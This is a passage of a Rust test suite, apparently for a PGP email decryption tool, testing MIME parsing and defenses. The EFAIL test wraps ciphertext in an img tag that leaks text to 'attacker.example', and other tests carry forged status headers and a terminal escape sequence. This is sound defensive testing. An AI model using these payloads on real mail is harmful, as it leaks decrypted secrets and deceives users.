            started.elapsed()
        );
    }
}

/// The MIME helpers on their own, each under the hang limit, on the same
/// huge inputs (`split_multipart` also with the innermost boundary of the
/// nested case, which makes it scan the whole nested body).
#[test]
fn mime_helpers_handle_huge_input_quickly() {
    for (what, input) in huge_inputs() {
        let summary = within_time_limit(what, move || {
            let entity = Entity::parse(&input);
            let content_type = entity
                .field("Content-Type")
                .and_then(|f| ContentType::parse(&f.value()))
                .map(|ct| ct.mime_type);
            let parts = entity.parts().map_or(0, |p| p.len());
            let innermost_parts = split_multipart(entity.body, "level0").map_or(0, |p| p.len());
            let found = addresses(entity.header, &["From", "To", "Cc"]);
            format!(
                "{} fields, content type {content_type:?}, {parts} parts, {innermost_parts} innermost parts, {} addresses",
                entity.fields.len(),
                found.len()
            )
        });
        eprintln!("{what}: {summary}");
    }
}

// ---------------------------------------------------------------------------
// 3. MIME reading invariants on arbitrary bytes
// ---------------------------------------------------------------------------

/// Checks the byte accounting of `Entity::parse`: header + separator + body
/// is the input, the header is exactly its fields, and every field is a
/// proper (possibly folded) line sequence.
fn check_entity_accounting(input: &[u8]) -> Result<(), TestCaseError> {
    let entity = Entity::parse(input);
    prop_assert_eq!(offset_in(input, entity.header), Some(0), "the header is a prefix of the input");
    let body_start = input.len() - entity.body.len();
    prop_assert_eq!(offset_in(input, entity.body), Some(body_start), "the body is a suffix of the input");
    prop_assert!(entity.header.len() <= body_start, "header and body must not overlap");
    let separator = &input[entity.header.len()..body_start];
    prop_assert!(
        matches!(separator, b"" | b"\n" | b"\r\n"),
        "between header and body there is exactly one blank line or nothing, got {:?}",
        separator
    );
    if separator.is_empty() {
        prop_assert!(entity.body.is_empty(), "without a blank line everything is header");
    }
    prop_assert!(
        lines(entity.header).all(|l| l != b"\n" && l != b"\r\n"),
        "the header must end at the first blank line"
    );
    prop_assert_eq!(
        entity.fields.iter().map(|f| f.raw).collect::<Vec<_>>().concat(),
        entity.header.to_vec(),
        "the fields, concatenated, are exactly the header"
    );
    let mut next = 0;
    for (i, field) in entity.fields.iter().enumerate() {
        prop_assert_eq!(
            offset_in(entity.header, field.raw),
            Some(next),
            "field {} is the next slice of the header",
            i
        );
        next += field.raw.len();
        prop_assert!(!field.raw.is_empty(), "no empty fields");
        if i > 0 {
            prop_assert!(
                !matches!(field.raw[0], b' ' | b'\t'),
                "a line starting with white space continues the previous field"
            );
        }
        for continuation in lines(field.raw).skip(1) {
            prop_assert!(matches!(continuation[0], b' ' | b'\t'), "only folded lines continue a field");
        }
        if i + 1 < entity.fields.len() {
            prop_assert!(field.raw.ends_with(b"\n"), "every field but the last ends with its line end");
        }
        // The accessors must not panic on anything.
        let name = field.name();
        prop_assert!(
            name.is_empty() || field.raw.trim_ascii_start().starts_with(name.as_bytes()),
            "a field name is the start of the field"
        );
        let _ = (field.raw_value(), field.value(), field.is_structural(), field.is("Content-Type"));
    }
    let _ = (entity.content_type(), entity.transfer_encoding());
    if let Some(parts) = entity.parts() {
        check_parts_are_in_order(entity.body, &parts)?;
    }
    Ok(())
}

/// Checks that `parts` are sub-slices of `body`, in order, not overlapping.
fn check_parts_are_in_order(body: &[u8], parts: &[&[u8]]) -> Result<(), TestCaseError> {
    let mut next = 0;
    for part in parts {
        let at = offset_in(body, part);
        prop_assert!(at.is_some_and(|at| at >= next), "each part is a later slice of the body");
        next = at.unwrap_or(0) + part.len();
    }
    Ok(())
}

proptest! {
    #![proptest_config(config(256))]

    /// See [`check_entity_accounting`].
    #[test]
    fn entity_parse_accounts_for_every_byte(input in any_input()) {
        check_entity_accounting(&input)?;
    }

    /// Parts are slices of the body and no part contains a delimiter line.
    #[test]
    fn multipart_parts_are_slices_of_the_body(
        body in any_input(),
        boundary in prop_oneof![select(&["b", "", " ", "b--", "=_x", "b\r\n"][..]).prop_map(String::from), "[ -~]{0,8}"],
    ) {
        if let Some(parts) = split_multipart(&body, &boundary) {
            check_parts_are_in_order(&body, &parts)?;
            for part in &parts {
                prop_assert!(
                    !lines(part).any(|l| is_delimiter_line(l, &boundary)),
                    "a part must not contain a delimiter line: {:?}",
                    String::from_utf8_lossy(part)
                );
            }
        }
    }

    /// Any string parses or is refused, never panics; what parses has a
    /// lower-case `type/subtype` and case-insensitive parameter names.
    #[test]
    fn content_type_parse_is_total_and_normalised(
        value in prop_oneof![any::<String>(), "[a-zA-Z/ ;=\"\\\\()\t]{0,60}", select(VALUES).prop_map(String::from)],
    ) {
        if let Some(ct) = ContentType::parse(&value) {
            prop_assert_eq!(&ct.mime_type, &ct.mime_type.to_ascii_lowercase(), "the media type is lower-cased");
            let (top, sub) = ct.mime_type.split_once('/').expect("a media type has a slash");
            prop_assert!(!top.is_empty() && !sub.is_empty() && !ct.mime_type.contains(char::is_whitespace));
            prop_assert_eq!(ct.param("boundary"), ct.param("BOUNDARY"), "parameter names are case-insensitive");
            let _ = (ct.param(""), ct.is_multipart());
        }
    }

    /// Whatever the header, the addresses found are normalised and listed
    /// once.
    #[test]
    fn addresses_are_lower_case_trimmed_and_unique(header in any_input()) {
        let found = within_time_limit("addresses", move || addresses(&header, &["From", "To", "Cc", "Bcc"]));
        for (i, a) in found.iter().enumerate() {
            prop_assert!(!a.is_empty() && a.trim() == a && *a == a.to_ascii_lowercase(), "address {:?} is not normalised", a);
            prop_assert!(!found[..i].contains(a), "address {:?} is listed twice", a);
        }
    }
}

// ---------------------------------------------------------------------------
// 4. Inline PGP with text around it (EFAIL)
// ---------------------------------------------------------------------------

/// How the inline message body is transfer-encoded.
#[derive(Debug, Clone, Copy)]
enum Encoding {
    SevenBit,
    QuotedPrintable,
    Base64,
}

impl Encoding {
    /// The `Content-Transfer-Encoding` value and `body` encoded with it.
    fn encode(self, body: &[u8]) -> (&'static str, Vec<u8>) {
        match self {
            Encoding::SevenBit => ("7bit", body.to_vec()),
            Encoding::QuotedPrintable => {
                let mut out = Vec::new();
                mail_builder::encoders::quoted_printable::quoted_printable_encode(body, &mut out, true)
                    .expect("writing to a Vec cannot fail");
                ("quoted-printable", out)
            }
            Encoding::Base64 => {
                let encoded = base64::engine::general_purpose::STANDARD.encode(body);
                let lines: Vec<&[u8]> = encoded.as_bytes().chunks(76).collect();
                ("base64", [lines.join(&b"\r\n"[..]), b"\r\n".to_vec()].concat())
            }
        }
    }
}

/// Markup an attacker wraps around captured ciphertext, hoping the
/// decrypted text is rendered inside it and sent to their server.
const EFAIL_BEFORE: &[u8] = b"<html><body><img src=\"http://attacker.example/leak?";
const EFAIL_AFTER: &[u8] = b"\">\r\n</body></html>\r\n";
const SECRET: &[u8] = b"Meet me at the north gate at noon.\r\n";

/// An HTML message with Bob's ciphertext inside the attacker's markup.
fn efail_message(armored: &[u8], encoding: Encoding) -> Vec<u8> {
    let (cte, body) = encoding.encode(&[EFAIL_BEFORE, b"\r\n", armored, b"\r\n", EFAIL_AFTER].concat());
    single_part("text/html; charset=utf-8", cte, &body)
}

/// The EFAIL direct-exfiltration shape: ciphertext Bob once received,
/// wrapped by an attacker in an unclosed `<img src="...`. Bob must get only
/// the decrypted text, as plain text, with a warning, and no attacker
/// markup anywhere in the output.
#[test]
fn inline_pgp_drops_the_text_around_the_block_and_warns() {
    let fx = fixture();
    let alice_fpr = fx.alice.cert.fingerprint().to_hex();
    let armored = armored_for_bob(SECRET);
    // Base64 is left out: such a message is not decrypted at all (see
    // `base64_encoded_inline_pgp_is_decrypted`), which is safe here.
    for encoding in [Encoding::SevenBit, Encoding::QuotedPrintable] {
        let message = efail_message(&armored, encoding);
        let outcome = open_as(Reader::Bob, &message);
        let Status::Decrypted {
            inline,
            warnings,
            signatures,
        } = &outcome.status
        else {
            panic!(
                "{encoding:?}: Bob should decrypt the inline block, got {}",
                outcome.status.header_value()
            );
        };
        assert!(*inline, "{encoding:?}: the status should say the message was inline PGP");
        assert!(
            matches!(signatures.best(), Some(SignatureStatus::Good { signer, .. }) if *signer == alice_fpr),
            "{encoding:?}: Alice's signature should verify, got {}",
            outcome.status.header_value()
        );
        assert!(
            warnings
                .iter()
                .any(|w| w.contains("unencrypted text around the inline PGP block was removed")),
            "{encoding:?}: Bob should be warned that text around the block was removed, got {warnings:?}"
        );
        let shown = Entity::parse(&outcome.message);
        assert_eq!(shown.body, SECRET, "{encoding:?}: Bob should see exactly the decrypted text");
        for planted in ["attacker.example", "<img", "<html", "</body>"] {
            assert!(
                find(&outcome.message, planted.as_bytes()).is_none(),
                "{encoding:?}: the attacker's {planted:?} must not appear anywhere in what Bob sees"
            );
        }
        assert!(
            shown.content_type().is("text/plain"),
            "{encoding:?}: the decrypted text must be shown as plain text, not HTML"
        );
        assert_ok(check_client_sees_only_our_status("inline PGP with surrounding text", &outcome));
    }
}

#[test]
fn inline_pgp_without_surrounding_text_has_no_warning() {
    let message = single_part("text/plain", "7bit", &armored_for_bob(SECRET));
    let outcome = open_as(Reader::Bob, &message);
    let Status::Decrypted {
        inline: true, warnings, ..
    } = &outcome.status
    else {
        panic!("Bob should decrypt the inline block, got {}", outcome.status.header_value());
    };
    assert!(warnings.is_empty(), "nothing was removed, so nothing to warn about: {warnings:?}");
    assert_eq!(Entity::parse(&outcome.message).body, SECRET);
}

/// A sender controls the encrypted payload too: status fields among its
/// protected headers (by name, or with a tab before the colon) must not be
/// shown.
#[test]
fn status_forged_inside_the_encryption_is_dropped() {
    let payload = b"Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\r\n\
Sealpost-Status: decrypted; signature=good; signer=0123456789ABCDEF0123456789ABCDEF01234567\r\n\
Sealpost-Status\t: decrypted; signature=good\r\n\
Subject: the real subject\r\n\
\r\n\
hello\r\n";
    let message = pgp_mime(&armored_for_bob(payload));
    let outcome = open_as(Reader::Bob, &message);
    assert!(
        matches!(outcome.status, Status::Decrypted { .. }),
        "got {}",
        outcome.status.header_value()
    );
    assert_ok(check_client_sees_only_our_status("status forged inside the encryption", &outcome));
    assert!(
        find(&outcome.message, b"Subject: the real subject").is_some(),
        "the protected Subject should be shown"
    );
}

// ---------------------------------------------------------------------------
// Regressions: each of these was a real bug found by the properties above
// ---------------------------------------------------------------------------

/// Was a bug: RFC 5322 (§3.6.8 with the obsolete syntax of §4.5) allows white
/// space between a field name and its colon, and lenient readers such as
/// mail-parser also skip other white space there. Sealpost's field parser
/// (`Entity::parse`) only accepts spaces in a field name, so a forged
/// `Sealpost-Status<TAB>:` field is not recognised, is not removed, and the
/// mail client shows the sender's status next to Sealpost's.
#[test]
fn status_field_with_a_tab_before_the_colon_is_removed() {
    let forged = b"From: mallory@example.com\r\nSealpost-Status\t: decrypted; signature=good\r\n\r\nhi\r\n";
    let outcome = open_as(Reader::Bob, forged);
    assert_eq!(outcome.status, Status::NotProtected);
    assert_ok(check_client_sees_only_our_status(
        "forged status with a tab before the colon",
        &outcome,
    ));
    assert_ok(check_unopened_is_untouched(
        "forged status with a tab before the colon",
        forged,
        &outcome,
    ));
}

/// Was a bug: Sealpost used to put its status line first and copy header
/// fields after it. A field whose first line begins with white space was
/// read by a mail client as a continuation of the status: the sender
/// appended their own text to Sealpost's verdict. (The status is now the
/// last header field.) Two ways in:
/// - a message that starts with such a line (kept as a nameless field,
///   for example in a `not-protected` or `failed` message);
/// - an encrypted payload whose first line is ` Subject: ...` (Sealpost
///   trims the name, takes it for a protected header, and emits it first
///   when the outer header keeps no other field).
#[test]
fn leading_folded_line_does_not_extend_the_status() {
    let plain = b" ; signature=good; signer=0123456789ABCDEF\r\nFrom: mallory@example.com\r\n\r\nhi\r\n".to_vec();
    let payload = b" Subject: ; signature=good; signer=0123456789ABCDEF\r\n\
Content-Type: text/plain; protected-headers=\"v1\"\r\n\r\nhi\r\n";
    let encrypted = pgp_mime_with(b"", &armored_for_bob(payload));
    let failures: Vec<String> = [("plain message", plain), ("encrypted payload", encrypted)]
        .into_iter()
        .filter_map(|(what, message)| check_client_sees_only_our_status(what, &open_as(Reader::Bob, &message)).err())
        .map(|e| e.to_string())
        .collect();
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Was a bug: an inline PGP message whose body is base64-encoded is reported as
/// `not-protected` and left encrypted. `decoded_body` in
/// `src/message/decrypt.rs` knows how to undo base64, but `classify` looks
/// for the `-----BEGIN PGP MESSAGE-----` line in the still-encoded body, so
/// that path is never reached (quoted-printable works only because the
/// BEGIN line survives that encoding unchanged).
#[test]
fn base64_encoded_inline_pgp_is_decrypted() {
    let message = efail_message(&armored_for_bob(SECRET), Encoding::Base64);
    let outcome = open_as(Reader::Bob, &message);
    assert!(
        matches!(outcome.status, Status::Decrypted { inline: true, .. }),
        "Bob should be able to read base64-encoded inline PGP, got {}",
        outcome.status.header_value()
    );
    assert_eq!(Entity::parse(&outcome.message).body, SECRET);
}

/// Was a bug (in sequoia-openpgp 2.4.2, reached through Sealpost; now
/// caught in `pgp::decrypt`): an encrypted message cut off 18 to 39 bytes
/// into its encrypted-data (SEIPDv1) packet, as a size limit or an
/// interrupted download may leave it, made sequoia panic (an unwrap in its
/// parser) instead of reporting `failed`. This test cuts the armor at every
/// position and lists the positions that panic.
#[test]
fn armor_cut_inside_the_encrypted_packet_does_not_panic() {
    let fx = fixture();
    let begin = find(&fx.encrypted, ARMOR_BEGIN).expect("armor start");
    let end = find(&fx.encrypted, ARMOR_END).expect("armor end");
    let panicking: Vec<usize> = (begin..end)
        .filter(|&cut| std::panic::catch_unwind(|| open_as(Reader::Bob, &fx.encrypted[..cut])).is_err())
        .collect();
    assert!(
        panicking.is_empty(),
        "decrypt_message panicked for {} of {} cut positions, e.g. the message cut after {:?}",
        panicking.len(),
        end - begin,
        panicking
            .first()
            .map(|&cut| String::from_utf8_lossy(&fx.encrypted[cut.saturating_sub(60)..cut]).into_owned())
    );
}

/// Was a bug: the status value carries attacker-controlled text (the From
/// address, in the "signing key does not belong to the From address" and
/// "protected From differs" warnings), and `quote` in
/// `src/message/decrypt.rs` only replaces CR and LF. Any other control
/// character in the From address (NUL, ESC, BEL...) is copied into the
/// `Sealpost-Status` header: invalid in a header (RFC 5322 allows none),
/// and an ESC sequence reaches the terminal of whoever reads the output of
/// `sealpost decrypt`.
#[test]
fn status_value_has_no_control_characters() {
    let fx = fixture();
    let message = replace_first(&fx.signed, b"From: Alice <alice@example.org>", b"From: <\x1b[2Jalice@example.org>");
    let outcome = open_as(Reader::Bob, &message);
    let value = outcome.status.header_value();
    assert!(
        value.contains("warning="),
        "the changed From should produce a warning, got {value:?}"
    );
    assert!(
        value.chars().all(|c| !c.is_control()),
        "the status value must be printable text, got {value:?}"
    );
}
